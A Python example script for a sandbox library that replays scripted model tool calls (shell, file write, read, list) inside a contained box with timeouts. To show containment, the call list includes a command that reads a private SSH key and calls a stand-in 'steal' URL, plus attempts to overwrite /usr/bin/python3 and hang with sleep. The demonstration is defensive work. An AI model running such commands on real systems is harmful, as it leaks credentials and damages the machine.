"""The tools of an agent: a shell, and files, in one box that stays warm between its calls.

    python examples/agent_tools.py

The model is a list here. What it asks for is hostile until shown otherwise, and so is what comes back.
"""

from __future__ import annotations

from collections.abc import Callable

from immure import ImmureError, Sandbox

#: What a model asked for: the name of a tool, and its arguments.
CALLS: list[tuple[str, dict[str, str]]] = [
    ("write_file", {"path": "/tmp/work/data.csv", "content": "city,rain\nOslo,763\nLima,16\nHanoi,1676\n"}),
    ("shell", {"command": "sort -t, -k2 -nr /tmp/work/data.csv | head -1"}),
    ("read_file", {"path": "/tmp/work/data.csv"}),
    ("shell", {"command": "cat ~/.ssh/id_ed25519; curl -s https://example.com/steal"}),
    ("shell", {"command": "sleep 1000"}),
    ("write_file", {"path": "/usr/bin/python3", "content": "gotcha"}),
    ("list_files", {"path": "/tmp/work"}),
]


def main() -> None:
    with Sandbox(workdir="/tmp", timeout_s=2, output_mib=0.1) as box:
        box.files.mkdir("/tmp/work", parents=True)
        tools = make_tools(box)
        for name, arguments in CALLS:
            print(f"> {name} {arguments}")
            for line in call(tools[name], arguments).splitlines()[:4]:
                # Before a terminal sees it, what a box wrote is made printable.
                print(f"  {ascii(line)[1:-1]}")


def make_tools(box: Sandbox) -> dict[str, Callable[..., str]]:
    def shell(command: str) -> str:
        result = box.exec(["sh", "-c", command])
        ending = "" if result.ok else f"\n[{result.exit.kind} {result.exit.code or result.exit.signal}]"
        return result.stdout.text() + result.stderr.text() + ending

    def write_file(path: str, content: str) -> str:
        box.files.write(path, content, parents=True)
        return f"{len(content)} characters written"

    def read_file(path: str) -> str:
        return box.files.read(path).text()

    def list_files(path: str) -> str:
        return "\n".join(f"{one.name} {one.size_bytes}" for one in box.files.list(path))

    return {one.__name__: one for one in (shell, write_file, read_file, list_files)}


def call(tool: Callable[..., str], arguments: dict[str, str]) -> str:
    """A tool's answer, or what the model is told in its place."""
    try:
        return tool(**arguments)
    except ImmureError as error:
        return f"error: {error}"


if __name__ == "__main__":
    main()
